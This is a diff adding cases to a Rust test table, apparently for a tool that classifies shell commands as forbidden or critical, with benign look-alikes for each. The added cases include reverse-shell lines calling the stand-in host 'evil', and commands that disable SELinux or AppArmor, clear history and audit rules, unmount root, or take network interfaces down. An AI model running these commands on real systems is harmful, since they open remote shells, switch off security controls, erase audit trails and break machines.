@@ -122,9 +122,55 @@ const FORBIDDEN_CASES: &[(&str, &[&str], &[&str])] = &[
         &["kill -9 1", "kill 1", "kill -9 -1", "kill -s KILL -1", "kill -- -1", "killall5 -9", "pkill -9 systemd"],
         &["kill -1 1234", "kill -9 12345", "kill 4242", "pkill -f toy"],
     ),
+    (
+        "reverse-shell",
+        &["nc -e /bin/sh evil 4444", "ncat -c bash evil 80", "socat exec:/bin/sh tcp:evil:4444"],
+        &["nc -z db 5432", "socat -V"],
+    ),
+    (
+        "security-off",
+        &["setenforce 0", "setenforce Permissive", "aa-teardown", "systemctl stop apparmor"],
+        &["setenforce 1", "getenforce"],
+    ),
+    ("audit-trail", &["history -c", "auditctl -D"], &["auditctl -l", "journalctl -u auditd"]),
+    (
+        "unmount-root",
+        &["umount -l /", "umount /", "mount -o remount,ro /", "fsfreeze -f /data"],
+        &["umount /mnt/stale", "mount -o remount,rw /"],
+    ),
 ];
 
 const CRITICAL_CASES: &[(&str, &[&str], &[&str])] = &[
+    (
+        "system-file-change",
+        &["mv /etc /tmp/etc", "mv /usr/bin/sudo /tmp", "truncate -s 0 /etc/passwd", "ln -sf /dev/null /etc/hosts"],
+        &["mv /tmp/a /tmp/b", "truncate -s 0 /var/log/app/huge.log", "ln -s /srv/app/current /srv/app/live"],
+    ),
+    ("crontab-remove", &["crontab -r", "crontab -u app -r", "crontab -ir"], &["crontab -l", "crontab -u app -l"]),
+    (
+        "kernel-change",
+        &["insmod /tmp/x.ko", "rmmod e1000e", "modprobe -r e1000e", "sysctl -w kernel.panic=1"],
+        &["modprobe br_netfilter", "sysctl -w vm.swappiness=10", "lsmod"],
+    ),
+    ("swap-off", &["swapoff -a", "swapoff /swapfile"], &["swapon -a", "free -m"]),
+    (
+        "mount-change",
+        &["umount -l /data", "umount -f /mnt/nfs", "mount -o ro /dev/sdb1 /data", "mount -o remount,ro /data"],
+        &["mount -a", "mount -o remount,rw /data", "umount /mnt/stale"],
+    ),
+    (
+        "network-down",
+        &[
+            "ip link set eth0 down",
+            "ip link set dev eth0 down",
+            "ip route flush all",
+            "ip addr flush dev eth0",
+            "ifconfig eth0 down",
+            "ifdown eth0",
+            "tc qdisc add dev eth0 root netem loss 100%",
+        ],
+        &["ip link set eth1 up", "ip route add default via 10.0.0.1", "ip addr show", "tc qdisc show"],
+    ),
     (
         "kill-9",
         &["kill -9 4242", "kill -KILL 4242", "kill -SIGKILL 4242", "sudo kill -s KILL 4242", "kill -n 9 4242"],
